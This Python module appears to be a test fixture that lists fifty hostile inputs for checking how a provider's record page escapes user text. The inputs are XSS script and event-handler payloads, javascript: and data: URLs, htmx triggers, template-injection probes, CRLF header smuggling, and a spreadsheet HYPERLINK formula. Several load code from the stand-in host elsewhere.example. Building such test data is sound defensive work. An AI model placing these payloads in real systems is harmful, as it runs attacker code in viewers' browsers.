"""Fifty texts that somebody could have put into a provider's record to hurt whoever looks at it.

What one of them makes run calls `taken()`; what is worked out as an expression becomes 191191.
"""

from __future__ import annotations

from itertools import batched

SCRIPTS = (
    "<script>taken()</script>",
    "<ScRiPt src=//elsewhere.example/x.js></sCrIpT>",
    "<script type=module>taken()</script>",
    "<scr<script>ipt>taken()</scr</script>ipt>",
    "%3Cscript%3Etaken()%3C/script%3E",
    "&lt;script&gt;taken()&lt;/script&gt; &#60;b&#62;",
    r"\u003cscript\u003etaken()\u003c/script\u003e",
    "\uff1cscript\uff1etaken()\uff1c/script\uff1e",
)
HANDLERS = (
    "<img src=x onerror=taken()>",
    "<svg onload=taken()>",
    "<svg><animate onbegin=taken() attributeName=x dur=1s>",
    "<body onload=taken() onpageshow=taken()>",
    "<input autofocus onfocus=taken()>",
    "<details open ontoggle=taken()><summary>x</summary></details>",
    "<video><source onerror=taken()></video>",
    "<math><mtext><xmp><img src=x onerror=taken()></xmp></mtext></math>",
    '" autofocus onfocus="taken()" onmouseover="taken()',
    "' autofocus onfocus='taken()' onmouseover='taken()",
    "` onpointerenter=taken() x=`",
)
ADDRESSES = (
    "javascript:taken()",
    "<a href=javascript:taken()>Open the record</a>",
    '<iframe srcdoc="<script>parent.taken()</script>"></iframe>',
    "data:text/html,<script>opener.taken()</script>",
    "<object data=//elsewhere.example/x></object><embed src=//elsewhere.example/x>",
    "<base href=//elsewhere.example/>",
    '<meta http-equiv=refresh content="0;url=//elsewhere.example/">',
    '<form action=//elsewhere.example/><button id="save">Save</button>',
    "<link rel=stylesheet href=//elsewhere.example/x.css><style>*{display:none}</style>",
    '" style="position:fixed;inset:0;background:url(//elsewhere.example/x)',
)
SWAPS = (
    "<div hx-get=/you/ hx-trigger=load></div>",
    '<div hx-on::load="taken()" hx-on:click="taken()"></div>',
    '<div data-hx-post="/you/" data-hx-trigger="load"></div>',
    '" hx-get="/you/" hx-trigger="load',
    "<div hx-vals='js:{a:taken()}' hx-post=/you/ hx-trigger=load></div>",
    '<div id="main" hx-swap-oob="true">Signed out.</div>',
)
TEMPLATES = (
    "{{ 1001|add:190190 }}{{ 1001*191 }}{% debug %}{% csrf_token %}",
    "${1001*191}#{1001*191}<%= 1001*191 %>",
    "{{constructor.constructor('taken()')()}}",
    "{0.__class__} %(name)s %s $name",
)
ENDS = (
    "--></title></textarea></select></style></noscript></script><img src=x onerror=taken()>",
    "]]></template></svg></math><img src=x onerror=taken()>",
    "'); taken(); ('",
    "<plaintext>",
)
TEXTS = (
    "\u202eexe.gnp\u202c \u2066isolated \u202bnever ended",
    "محمد عبد الرحمن الفارسي \u200f(خط)\u200e",
    "Z̴̢͚̠a̵̧̛͖l̶̰̀g̷̟̈́o̸͎͋" * 6,
    "nothing\u200b\u200c\u200d\ufeff\u2060\u00ad between\u2028lines\u2029and\u0085ends",
    "\x1b[31mred\x07\x08\r\nSet-Cookie: taken=1",
    '=HYPERLINK("http://elsewhere.example/","pay") @SUM(1) +1 -1',
    "Wolfeschlegelstein" * 80,
)
PAYLOADS = (*SCRIPTS, *HANDLERS, *ADDRESSES, *SWAPS, *TEMPLATES, *ENDS, *TEXTS)
# Five at a time, so that each field of ten records holds all of them; an answer may hold 2,000 characters each.
GROUPS = tuple(batched(PAYLOADS, 5))
